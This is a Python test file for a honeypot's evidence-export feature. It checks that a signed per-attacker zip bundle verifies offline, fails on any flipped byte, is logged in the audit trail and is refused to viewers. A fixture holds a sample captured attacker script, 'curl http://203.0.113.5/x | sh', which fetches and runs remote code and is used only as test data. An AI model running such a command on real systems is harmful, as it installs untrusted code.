"""An attacker's evidence bundle from a real server, verified offline; one flipped byte fails it."""

from __future__ import annotations

import hashlib
import io
import json
import shutil
import subprocess
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from infrastructure.audit.bundle_verify import verify_bundle
from infrastructure.audit.signing import PublicKey
from tests.api.harness import make_account, one_backend, run_decnet
from tests.api.observations_support import (
    ObservedServer,
    attacker_row,
    get_json,
    observed_server,
    scratch_dir,
    send_tcp,
    syslog_line,
    wait_for,
)

ATTACKER, OTHER = "10.91.0.7", "10.91.0.8"
DROPPED = b"#!/bin/sh\ncurl http://203.0.113.5/x | sh\n"
SHA = hashlib.sha256(DROPPED).hexdigest()
STORED_AS = f"2026-04-18T02:22:56Z_{SHA[:12]}_x.sh"


@dataclass
class Exported:
    """The server, an auditor's and a viewer's token, the attacker's uuid and its bundle."""

    obs: ObservedServer
    auditor: str
    viewer: str
    uuid: str
    bundle: bytes
    key: PublicKey
    workdir: Path


@pytest.fixture(scope="module")
def exported() -> Iterator[Exported]:
    """Two attackers in one batch, one dropped a file; the first one's bundle, as an auditor."""
    with scratch_dir("evidence") as scratch:
        artifacts = scratch / "artifacts"
        (artifacts / "ev-decky" / "ssh").mkdir(parents=True)
        (artifacts / "ev-decky" / "ssh" / STORED_AS).write_bytes(DROPPED)
        env = {"DECNET_ARTIFACTS_ROOT": str(artifacts), "DECNET_CHECKPOINT_EVERY_S": "1"}
        with observed_server(one_backend(), scratch / "data", extra_env=env) as obs:
            with obs.server.client() as api:
                auditor = make_account(api, obs.token, "auditor", prefix="ev-aud").token
                viewer = make_account(api, obs.token, "viewer", prefix="ev-view").token
                lines = [
                    syslog_line("ev-decky", "ssh", "auth", {"src_ip": ATTACKER, "password": "p1"}),
                    syslog_line("ev-decky", "ssh", "auth", {"src_ip": OTHER, "password": "q9"}),
                    syslog_line(
                        "ev-decky", "ssh", "command", {"src_ip": ATTACKER, "command": "id"}
                    ),
                    syslog_line(
                        "ev-decky",
                        "ssh",
                        "file_captured",
                        {"src_ip": ATTACKER, "sha256": SHA, "stored_as": STORED_AS, "size": "40"},
                    ),
                ]
                send_tcp(obs.syslog_port, lines)
                attacker = wait_for(
                    lambda: attacker_row(api, auditor, ATTACKER, 3), 30, "the attacker's profile"
                )
                response = api.get(f"/attackers/{attacker['uuid']}/evidence", auditor)
                assert response.status_code == 200, response.text
                key = PublicKey.from_pem(
                    api.get("/audit/public-key", auditor).json()["pem"].encode()
                )
            yield Exported(obs, auditor, viewer, attacker["uuid"], response.content, key, scratch)


def test_the_bundle_verifies_offline_with_the_published_key(exported: Exported) -> None:
    """Given the exported zip, when verified offline with the pinned key, then every part holds."""
    path = exported.workdir / "bundle.zip"
    path.write_bytes(exported.bundle)
    report = verify_bundle(path, exported.key)
    assert report.ok, report.failures
    assert (report.events, report.records, report.artifacts) == (1, 3, 1)
    (exported.workdir / "key.pem").write_bytes(exported.key.pem())
    done = exported.obs.server.run_cli(
        "evidence", "verify", str(path), "--public-key", str(exported.workdir / "key.pem")
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert done.stdout.splitlines()[-1] == "OK"


def test_the_bundle_holds_only_this_attackers_records_and_its_artifact(exported: Exported) -> None:
    """Given a batch shared with another attacker, then only this attacker's records are in it."""
    with zipfile.ZipFile(io.BytesIO(exported.bundle)) as zf:
        names = set(zf.namelist())
        events = [json.loads(line) for line in zf.read("events.jsonl").splitlines()]
        assert zf.read(f"artifacts/{SHA}") == DROPPED
        checkpoint = json.loads(zf.read("checkpoint.json"))
        proofs = json.loads(zf.read("proofs.json"))
    assert {"VERIFY.md", "public_key.pem", "checkpoint.json", "proofs.json"} <= names
    ips = {r["record"]["attacker_ip"] for e in events for r in e["batch"]["records"]}
    assert ips == {ATTACKER}
    assert OTHER not in json.dumps(events)
    assert proofs["tree_size"] == checkpoint["tree_size"]
    assert checkpoint["tree_size"] > max(e["position"] for e in events) - 1


def test_one_flipped_byte_anywhere_fails_verification(exported: Exported) -> None:
    """Given the bundle, when any one of its bytes is flipped (every offset), then it fails."""
    data = exported.bundle
    path = exported.workdir / "flipped.zip"
    for offset in range(len(data)):
        flipped = bytearray(data)
        flipped[offset] ^= 0x01
        path.write_bytes(bytes(flipped))
        assert not verify_bundle(path, exported.key).ok, f"byte {offset} of {len(data)}"


def test_the_export_is_in_the_audit_trail(exported: Exported) -> None:
    """Given an export, then `/audit` lists `evidence_exported` naming the attacker."""
    with exported.obs.server.client() as api:
        trail = get_json(api, exported.auditor, "/audit", action="evidence_exported")
    assert trail["total"] >= 1
    assert trail["data"][0]["target"] == exported.uuid
    assert ATTACKER in trail["data"][0]["detail"]


def test_evidence_refuses_viewers_and_bad_or_unknown_attackers(exported: Exported) -> None:
    """Viewer 403, a malformed uuid 422, an unknown one 404 — never a 500."""
    with exported.obs.server.client() as api:
        path = f"/attackers/{exported.uuid}/evidence"
        assert api.get(path, exported.viewer).status_code == 403
        assert api.get(path).status_code == 401
        assert api.get("/attackers/not-a-uuid/evidence", exported.auditor).status_code == 422
        unknown = "/attackers/00000000-0000-4000-8000-000000000000/evidence"
        assert api.get(unknown, exported.auditor).status_code == 404


def test_the_archive_seal_checks_by_hand_with_openssl(exported: Exported) -> None:
    """VERIFY.md's openssl steps for the archive's seal pass on the real bundle."""
    if shutil.which("openssl") is None:
        pytest.skip("openssl is not installed")
    work = exported.workdir / "by-hand"
    work.mkdir(exist_ok=True)
    (work / "BUNDLE.zip").write_bytes(exported.bundle)
    (work / "public_key.pem").write_bytes(exported.key.pem())
    script = (
        "printf 'decnet-es evidence archive v1\\n%s\\n'"
        " \"$(head -c -116 BUNDLE.zip | sha256sum | cut -d' ' -f1)\" > archive.msg"
        " && tail -c 88 BUNDLE.zip | base64 -d > archive.sig"
        " && openssl pkeyutl -verify -pubin -inkey public_key.pem -rawin"
        " -in archive.msg -sigfile archive.sig"
    )
    done = subprocess.run(["sh", "-c", script], cwd=work, capture_output=True, text=True)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "Verified Successfully" in done.stdout


def test_an_export_signs_a_checkpoint_when_none_covers_theattacker_row(tmp_path: Path) -> None:
    """Given checkpoints an hour apart, when the attacker's records are newer than the last one,
    then the export signs a fresh checkpoint (an event too) and proves against it."""
    env = {"DECNET_CHECKPOINT_EVERY_S": "3600"}
    with (
        scratch_dir("evidence-fresh") as scratch,
        observed_server(one_backend(), scratch / "data", extra_env=env) as obs,
        obs.server.client() as api,
    ):
        auditor = make_account(api, obs.token, "auditor", prefix="ev-fresh").token
        first = wait_for(
            lambda: api.get("/audit/checkpoints", auditor).json()["data"] or None,
            30,
            "the first checkpoint",
        )[0]
        line = syslog_line("ev-decky", "ssh", "command", {"src_ip": "10.92.0.3", "command": "w"})
        send_tcp(obs.syslog_port, [line])
        attacker = wait_for(lambda: attacker_row(api, auditor, "10.92.0.3", 1), 30, "the attacker")
        response = api.get(f"/attackers/{attacker['uuid']}/evidence", auditor)
        assert response.status_code == 200, response.text
        newest = api.get("/audit/checkpoints", auditor).json()["data"][0]
    with zipfile.ZipFile(io.BytesIO(response.content)) as zf:
        signed = json.loads(zf.read("checkpoint.json"))
        events = [json.loads(line) for line in zf.read("events.jsonl").splitlines()]
    assert signed["tree_size"] > first["tree_size"]
    assert (newest["tree_size"], newest["root_hash"]) == (signed["tree_size"], signed["root_hash"])
    path = tmp_path / "fresh.zip"
    path.write_bytes(response.content)
    report = verify_bundle(path)
    assert report.ok, report.failures
    assert len(events) == 1


def test_the_cli_exports_the_bundle_for_an_auditor_and_refuses_a_viewer(
    exported: Exported, tmp_path: Path
) -> None:
    """`decnet evidence export UUID` writes the server's bundle (named by the server) that
    verifies offline; a viewer's token exits 1 with the server's 403 and writes nothing."""
    server = exported.obs.server
    remote = ("--url", server.base_url)
    done = run_decnet(
        "evidence", "export", exported.uuid, *remote, "--token", exported.auditor,
        env=server.env(), cwd=tmp_path,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    (written,) = tmp_path.glob("*.zip")
    assert written.name.startswith("evidence-")
    assert str(written.name) in done.stdout
    report = verify_bundle(written, exported.key)
    assert report.ok, report.failures
    refused = run_decnet(
        "evidence", "export", exported.uuid, *remote, "--token", exported.viewer,
        "-o", str(tmp_path / "viewer.zip"), env=server.env(), cwd=tmp_path,
    )  # fmt: skip
    assert refused.returncode == 1
    assert "(403)" in refused.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == [written.name]
